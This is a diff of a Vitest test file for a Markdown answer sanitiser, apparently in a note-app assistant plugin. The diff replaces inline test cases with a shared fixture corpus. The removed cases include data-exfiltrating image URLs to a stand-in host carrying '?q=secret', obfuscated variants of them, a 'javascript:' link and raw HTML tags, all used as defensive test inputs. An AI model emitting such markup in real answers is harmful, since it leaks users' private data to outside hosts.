@@ -1,76 +1,31 @@
 import { describe, expect, it } from "vitest";
 import { holdPoint, neutraliseAnswer, SAFE_LANGUAGES } from "../src/answer/neutralise";
 import { parseAskEvent } from "../src/sidecar/wire";
-import { askLines } from "./helpers";
+import { askLines, asPlugin, neutraliseCases } from "./helpers";
 
 const EVIL = "https://evil.example/p.png?q=secret";
 const kinds = (text: string, streaming = false) =>
 	neutraliseAnswer(text, { streaming }).neutralised.map((n) => `${n.kind}:${n.target ?? "-"}`);
 
-describe("neutraliseAnswer: the docs/api.md rules, outside code", () => {
-	it.each([
-		// Remote images never render; the note names the host only.
-		["remote image", `See ![x](${EVIL}) here`, "See \\[image removed: evil.example\\] here", ["image:evil.example"]],
-		["protocol-relative image", "![x](//evil.example/p.png)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
-		["image with a title", '![x](https://evil.example/p.png "t")', "\\[image removed: evil.example\\]", ["image:evil.example"]],
-		["image in angle brackets with a space", "![x](<https://evil.example/a b.png>)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
-		["alt text over two lines", "![a\nb](https://evil.example/p.png)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
-		["nested brackets in the alt text", "![a [b] c](https://evil.example/p.png)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
-		["scheme hidden by a character reference", "![x](https&#58;//evil.example/p.png)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
-		["scheme hidden by a backslash escape", "![x](https\\://evil.example/p.png)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
-		["scheme split by a tab", "![x](<ht\ttps://evil.example/p.png>)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
-		["data: image", "![x](data:image/png;base64,AAAA)", "\\[image removed: data\\]", ["image:data"]],
-		["reference image", `![x][r]\n\n[r]: ${EVIL}`, "\\[image removed\\]\n", ["image:-", "definition:evil.example"]],
-		["shortcut reference image", `![r]\n\n[r]: ${EVIL}`, "\\![r]\n", ["definition:evil.example"]],
-		["definition with its URL on the next line", `[r]:\n${EVIL}\n\n[a][r]`, "\n[a][r]", ["definition:evil.example"]],
-		["local image stays", "![chart](attachments/chart.png)", "![chart](attachments/chart.png)", []],
-		["local image with spaces", "![chart](<my chart.png>)", "![chart](my%20chart.png)", []],
-		// Embeds would pull a note (an excluded one too) into the chat.
-		["wiki embed", "![[Private/Secret note]]", "[[Private/Secret note]]", ["embed:-"]],
-		["Markdown embed of a note", "![x](Private/secret.md)", "[x](Private/secret.md)", ["embed:-"]],
-		// Links to anything but a vault path become text with the URL in code.
-		["external link", "[site](https://evil.example)", "site (`https://evil.example`)", ["link:evil.example"]],
-		["numeric label keeps its brackets", "[1](https://evil.example)", "[1] (`https://evil.example`)", ["link:evil.example"]],
-		["javascript: link", "[click](javascript:alert(1))", "click (`javascript:alert(1)`)", ["link:javascript"]],
-		["obsidian: link", "[open](obsidian://open?vault=x)", "open (`obsidian://open?vault=x`)", ["link:open"]],
-		["link around a remote image", `[![x](${EVIL})](https://evil.example)`, "\\[image removed: evil.example\\] (`https://evil.example`)", ["image:evil.example", "link:evil.example"]],
-		["autolink", "<https://evil.example/x>", "`https://evil.example/x`", ["link:evil.example"]],
-		["bare URL, sentence punctuation left outside", `see ${EVIL}.`, `see \`${EVIL}\`.`, ["link:evil.example"]],
-		["bare www. address", "go to www.evil.example now", "go to `www.evil.example` now", ["link:www.evil.example"]],
-		["local link stays", "[Kodi](Homelab/Kodi.md#Maintenance)", "[Kodi](Homelab/Kodi.md#Maintenance)", []],
-		["wikilink stays", "[[Homelab/Kodi#Maintenance|Kodi]]", "[[Homelab/Kodi#Maintenance|Kodi]]", []],
-		// Every HTML tag is escaped; a tag's source host is named.
-		["img tag", '<img src="https://evil.example/p.png">', '&lt;img src="`https://evil.example/p.png`">', ["html:evil.example", "link:evil.example"]],
-		["iframe tag", "<iframe>x</iframe>", "&lt;iframe>x&lt;/iframe>", ["html:iframe", "html:iframe"]],
-		["a lone < is text", "a < b", "a &lt; b", []],
-		// Code: shown as written; only plain highlighters keep their language; Dataview inline queries are prefixed.
-		["dataviewjs block", "```dataviewjs\ndv.el('b', 'x')\n```", "```text\ndv.el('b', 'x')\n```", ["code:dataviewjs"]],
-		["tasks block with tildes", "~~~tasks\nnot done\n~~~", "~~~text\nnot done\n~~~", ["code:tasks"]],
-		["mermaid, info string dropped", "```mermaid theme\ngraph TD\n```", "```text\ngraph TD\n```", ["code:mermaid"]],
-		["python block kept as written", "```python\nprint('<img src=https://x>')\n```", "```python\nprint('<img src=https://x>')\n```", []],
-		["fence inside a list item", "- a\n\n    ```dataview\n    LIST\n    ```", "- a\n\n    ```text\n    LIST\n    ```", ["code:dataview"]],
-		["fence inside a quote", "> ```query\n> tag:#x\n> ```", "> ```text\n> tag:#x\n> ```", ["code:query"]],
-		["Dataview inline queries", "`= this.file.name` and `$= dv.current()`", "`(query) = this.file.name` and `(query) $= dv.current()`", ["code:dataview", "code:dataview"]],
-		["inline code stays as written", "Run `ps aux | grep <x>` now", "Run `ps aux | grep <x>` now", []],
-		// Where a renderer's code is not where a naive scan thinks it is, the text is prose and made inert.
-		["a longer fence closes a fence", `\`\`\`\ncode\n\`\`\`\`\n![x](${EVIL})`, "```\ncode\n````\n\\[image removed: evil.example\\]", ["image:evil.example"]],
-		["an info string with a backtick is no fence", `\`\`\`a\`b\n![x](${EVIL})`, "\\`\\`\\`a\\`b\n\\[image removed: evil.example\\]", ["image:evil.example"]],
-		["a tab-indented fence is indented code", `\t\`\`\`\n![x](${EVIL})\n\t\`\`\``, "\t```\n\\[image removed: evil.example\\]\n\t```", ["image:evil.example"]],
-		["a list item's fence ends with the item", `- item\n  \`\`\`\n![x](${EVIL})\n  \`\`\``, "- item\n  ```\n\\[image removed: evil.example\\]\n  ```", ["image:evil.example"]],
-		["an escaped backtick opens no code span", `\\\`![x](${EVIL}) \`y\``, "\\`\\[image removed: evil.example\\] `y`", ["image:evil.example"]],
-		["code spans do not cross paragraphs", `\`a\n\n![x](${EVIL})\n\nb\``, "\\`a\n\n\\[image removed: evil.example\\]\n\nb\\`", ["image:evil.example"]],
-		["table cells split code spans", `| a | b |\n|---|---|\n| \`x | ![y](${EVIL}) | z\` |`, "| a | b |\n|---|---|\n| \\`x | \\[image removed: evil.example\\] | z\\` |", ["image:evil.example"]],
-		["math that could close inside code", `$\`$ ![x](${EVIL}) \``, "$\\`$ \\[image removed: evil.example\\] \\`", ["image:evil.example"]],
-		["a link destination taken before a backtick", `[a](https://e.example/\`) ![x](${EVIL}) \``, "a (`https://e.example/`) \\[image removed: evil.example\\] \\`", ["link:e.example", "image:evil.example"]],
-		["an unmatched `](` cannot become a link", "x](https://evil.example)", "x]\\(`https://evil.example`)", ["link:evil.example"]],
-		// Ordinary answers pass through untouched.
-		["citations, tasks and a callout", "> [!note] Port\n> 5433 [1]\n\n- [ ] check [2]", "> [!note] Port\n> 5433 [1]\n\n- [ ] check [2]", []],
-		["footnote definitions are not link definitions", "x[^1]\n\n[^1]: from the note", "x[^1]\n\n[^1]: from the note", []],
-	])("%s", (_name, input, expected, expectedKinds) => {
-		const safe = neutraliseAnswer(input);
-		expect(safe.text).toBe(expected);
-		expect(safe.neutralised.map((n) => `${n.kind}:${n.target ?? "-"}`)).toEqual(expectedKinds);
+describe("the shared corpus (tests/fixtures/neutralise/cases.json): the sidecar's outputs, its marker always escaped", () => {
+	const cases = neutraliseCases();
+
+	it("holds every kind of construct, and answers that pass unchanged", () => {
+		expect(cases.length).toBeGreaterThanOrEqual(40);
+		expect(new Set(cases.map((c) => c.id)).size).toBe(cases.length);
+		expect(new Set(cases.flatMap((c) => c.neutralised.map((k) => k.split(":")[0])))).toEqual(
+			new Set(["image", "embed", "link", "definition", "html", "code"]),
+		);
+		expect(cases.some((c) => c.neutralised.length === 0 && c.inert === c.input)).toBe(true);
+	});
+
+	it.each(cases.map((c) => [c.id, c] as const))("%s", (_id, c) => {
+		const safe = neutraliseAnswer(c.input);
+		expect(safe.text).toBe(asPlugin(c.inert));
+		expect(safe.neutralised.map((n) => `${n.kind}:${n.target ?? "-"}`)).toEqual(c.neutralised);
 		expect(safe.held).toBe(0);
+		// The sidecar's answer, rendered by the plugin, changes nothing more and notes nothing.
+		expect(neutraliseAnswer(c.inert).text).toBe(c.inert);
 	});
 });
 
